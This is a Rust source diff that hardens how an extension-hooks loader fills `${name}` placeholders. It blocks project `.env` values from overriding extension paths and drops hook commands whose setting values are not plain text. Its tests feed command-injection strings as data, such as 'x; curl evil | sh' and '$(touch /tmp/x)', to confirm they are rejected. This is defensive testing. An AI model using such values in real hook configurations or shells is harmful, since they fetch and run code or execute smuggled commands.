@@ -11,8 +11,13 @@
 //!    *hydrated*: each `${name}` (up to the first `}` on the same line) is replaced by the
 //!    context value of that name, and left as written when the name is unknown. The context
 //!    holds `extensionPath`, `workspacePath`, every extension setting value keyed by its
-//!    environment variable (these may override the first two), and `/` and `pathSeparator`
-//!    (the platform separator, which nothing overrides). `$NAME` without braces is untouched.
+//!    environment variable, and `/` and `pathSeparator` (the platform separator). `$NAME`
+//!    without braces is untouched. Two departures from Gemini CLI keep a project's `.env`
+//!    from steering an installed extension's hooks: setting values never override
+//!    `extensionPath` or `workspacePath` (Gemini CLI lets them), and a hook whose `command`
+//!    would get a setting value that is not plain text ([`is_plain_value`]) is left out
+//!    with a warning, since values are inserted as shell text. Under `--project-hooks
+//!    require` the registry also leaves the project's `.env` out altogether.
 //!    Object keys `__proto__`, `constructor` and `prototype` are dropped while hydrating.
 //! 3. The definitions are validated like a settings file's (§1.4), except that a non-array
 //!    event value is skipped with a warning rather than wrapped.
@@ -54,9 +59,12 @@ pub struct ExtensionInput {
     pub hooks_text: Option<String>,
     /// The manifest's settings, in manifest order.
     pub settings: Vec<ExtensionSetting>,
-    /// The resolved setting values: the user-scope `.env` entries, then the workspace-scope
-    /// ones. For a name given twice the later value wins.
+    /// The user-scope setting values (the extension's own `.env` entries). For a name given
+    /// twice the later value wins.
     pub setting_values: Vec<(String, String)>,
+    /// The workspace-scope values (the project's `.env`, read in a trusted folder only); they
+    /// win over the user's. The registry leaves them out under `--project-hooks require`.
+    pub workspace_setting_values: Vec<(String, String)>,
     /// Whether the extension is enabled for the workspace; inactive extensions contribute no
     /// hooks.
     pub active: bool,
@@ -68,11 +76,13 @@ impl ExtensionInput {
         dir.join("hooks").join("hooks.json")
     }
 
-    /// The resolved value of a setting or `.env` entry; the last occurrence wins.
+    /// The resolved value of a setting or `.env` entry: the workspace's, else the user's; the
+    /// last occurrence wins.
     pub fn setting_value(&self, name: &str) -> Option<&str> {
-        self.setting_values
+        self.workspace_setting_values
             .iter()
             .rev()
+            .chain(self.setting_values.iter().rev())
             .find(|(key, _)| key == name)
             .map(|(_, value)| value.as_str())
     }
@@ -124,10 +134,97 @@ pub fn parse_extension_hooks(
     };
 
     let context = HydrationContext::new(extension, workspace_path);
-    let hydrated = hydrate_map(hooks, &context);
+    let mut hooks = hooks.clone();
+    for hooks in hooks.values_mut() {
+        drop_unsafe_commands(hooks, &context, &extension.name, path, diagnostics);
+    }
+    let hydrated = hydrate_map(&hooks, &context);
     let mut events = settings::parse_hooks_object(&hydrated, Source::Extension, path, diagnostics);
     merge_setting_env(&mut events, extension);
     events
+}
+
+/// Leaves out (with a warning) every hook object whose `command` would get a setting value
+/// that is not plain text (see [`is_plain_value`]): hydration inserts values as they are,
+/// so such a value could add shell syntax to the command line.
+fn drop_unsafe_commands(
+    value: &mut Value,
+    context: &HydrationContext<'_>,
+    extension: &str,
+    path: &Path,
+    diagnostics: &mut Vec<Diagnostic>,
+) {
+    match value {
+        Value::Array(items) => {
+            items.retain(|item| {
+                let Some(command) = item.get("command").and_then(Value::as_str) else {
+                    return true;
+                };
+                match unsafe_reference(command, context) {
+                    None => true,
+                    Some(name) => {
+                        diagnostics.push(
+                            Diagnostic::warning(format!(
+                                "hook of extension \"{extension}\" left out: the value of \
+                                 ${{{name}}} in its command is not plain text (letters, digits \
+                                 and _ . / : @ % + = , -), so it could change the command line; \
+                                 read the setting from the hook's environment instead"
+                            ))
+                            .with_path(path),
+                        );
+                        false
+                    }
+                }
+            });
+            for item in items {
+                drop_unsafe_commands(item, context, extension, path, diagnostics);
+            }
+        }
+        Value::Object(map) => {
+            for (_, item) in map.iter_mut() {
+                drop_unsafe_commands(item, context, extension, path, diagnostics);
+            }
+        }
+        _ => {}
+    }
+}
+
+/// The first `${name}` of `command` that a setting value would fill with text that is not
+/// plain.
+fn unsafe_reference(command: &str, context: &HydrationContext<'_>) -> Option<String> {
+    let mut rest = command;
+    while let Some(start) = rest.find("${") {
+        let inner = &rest[start + 2..];
+        let close = inner
+            .find(['}', '\n', '\r', '\u{2028}', '\u{2029}'])
+            .filter(|&i| inner[i..].starts_with('}'));
+        match close {
+            Some(close) => {
+                let name = &inner[..close];
+                if let Some(value) = context.setting(name)
+                    && !is_plain_value(value)
+                {
+                    return Some(name.to_owned());
+                }
+                rest = &inner[close + 1..];
+            }
+            None => rest = &rest[start + 1..],
+        }
+    }
+    None
+}
+
+/// Whether a setting value can be put into a command line as it is: non-empty, and only
+/// letters, digits and `_ . / : @ % + = , -`.
+pub fn is_plain_value(value: &str) -> bool {
+    !value.is_empty()
+        && value.bytes().all(|b| {
+            b.is_ascii_alphanumeric()
+                || matches!(
+                    b,
+                    b'_' | b'.' | b'/' | b':' | b'@' | b'%' | b'+' | b'=' | b',' | b'-'
+                )
+        })
 }
 
 /// The values `${name}` can refer to in an extension's files.
@@ -136,6 +233,7 @@ pub struct HydrationContext<'a> {
     extension_path: String,
     workspace_path: String,
     values: &'a [(String, String)],
+    workspace_values: &'a [(String, String)],
 }
 
 impl<'a> HydrationContext<'a> {
@@ -145,24 +243,37 @@ impl<'a> HydrationContext<'a> {
             extension_path: extension.path.to_string_lossy().into_owned(),
             workspace_path: workspace_path.to_string_lossy().into_owned(),
             values: &extension.setting_values,
+            workspace_values: &extension.workspace_setting_values,
         }
     }
 
     /// The value of `name`, if the context has one.
     pub fn get(&self, name: &str) -> Option<&str> {
-        // The separators are applied last in Gemini CLI, so nothing overrides them; setting
-        // values are spread over the two paths, so they do override those.
-        if name == "/" || name == "pathSeparator" {
-            return Some(MAIN_SEPARATOR_STR);
-        }
-        if let Some((_, value)) = self.values.iter().rev().find(|(key, _)| key == name) {
-            return Some(value);
-        }
+        // The separators are applied last in Gemini CLI, so nothing overrides them. Gemini
+        // CLI lets setting values override the two paths too; hookd does not, so that a
+        // project's `.env` cannot point an installed extension's hooks into the repository.
         match name {
+            "/" | "pathSeparator" => Some(MAIN_SEPARATOR_STR),
             "extensionPath" => Some(&self.extension_path),
             "workspacePath" => Some(&self.workspace_path),
-            _ => None,
+            _ => self.setting(name),
         }
+    }
+
+    /// The setting value of `name` (workspace scope first), if any.
+    fn setting(&self, name: &str) -> Option<&str> {
+        if matches!(
+            name,
+            "/" | "pathSeparator" | "extensionPath" | "workspacePath"
+        ) {
+            return None;
+        }
+        self.workspace_values
+            .iter()
+            .rev()
+            .chain(self.values.iter().rev())
+            .find(|(key, _)| key == name)
+            .map(|(_, value)| value.as_str())
     }
 }
 
@@ -334,8 +445,8 @@ mod tests {
             setting_values: vec![
                 ("API_TOKEN".to_owned(), "user-token".to_owned()),
                 ("EXTRA".to_owned(), "extra".to_owned()),
-                ("API_TOKEN".to_owned(), "workspace-token".to_owned()),
             ],
+            workspace_setting_values: vec![("API_TOKEN".to_owned(), "workspace-token".to_owned())],
             active: true,
         }
     }
@@ -374,14 +485,55 @@ mod tests {
     }
 
     #[test]
-    fn setting_values_override_paths_but_not_separators() {
+    fn setting_values_override_neither_paths_nor_separators() {
         let mut ext = extension(None);
-        ext.setting_values = vec![
-            ("extensionPath".to_owned(), "/override".to_owned()),
+        ext.workspace_setting_values = vec![
+            ("extensionPath".to_owned(), "/srv/repo/evil".to_owned()),
+            ("workspacePath".to_owned(), "/elsewhere".to_owned()),
             ("/".to_owned(), "\\".to_owned()),
         ];
         let context = HydrationContext::new(&ext, Path::new("/w"));
-        assert_eq!(hydrate_str("${extensionPath}${/}", &context), "/override/");
+        assert_eq!(
+            hydrate_str("${extensionPath}${/}${workspacePath}", &context),
+            "/home/u/.gemini/extensions/ext//w"
+        );
+    }
+
+    #[test]
+    fn setting_values_that_are_not_plain_text_never_reach_a_command() {
+        // (value, hook kept)
+        let cases = [
+            ("https://example.com:8080/a-b_c", true),
+            ("x; curl evil | sh", false),
+            ("$(touch /tmp/x)", false),
+            ("a b", false),
+            ("'", false),
+            ("", false),
+        ];
+        for (value, kept) in cases {
+            let mut ext = extension(Some(
+                r#"{"hooks": {"BeforeTool": [{"hooks": [
+                    {"type": "command", "command": "${extensionPath}/gate.sh --url ${URL}"},
+                    {"type": "command", "command": "echo ${EXTRA}"}
+                ]}]}}"#,
+            ));
+            ext.workspace_setting_values = vec![("URL".to_owned(), value.to_owned())];
+            let mut diagnostics = Vec::new();
+            let events = parse_extension_hooks(&ext, Path::new("/w"), &mut diagnostics);
+            let commands: Vec<&str> = events[0].definitions[0]
+                .hooks
+                .iter()
+                .filter_map(|hook| hook.command.as_deref())
+                .collect();
+            let gate = format!("/home/u/.gemini/extensions/ext/gate.sh --url {value}");
+            let expected: Vec<&str> = if kept {
+                vec![gate.as_str(), "echo extra"]
+            } else {
+                vec!["echo extra"]
+            };
+            assert_eq!(commands, expected, "{value:?}");
+            assert_eq!(diagnostics.len(), usize::from(!kept), "{diagnostics:?}");
+        }
     }
 
     fn parse(text: &str) -> (Vec<EventHooks>, Vec<Diagnostic>) {
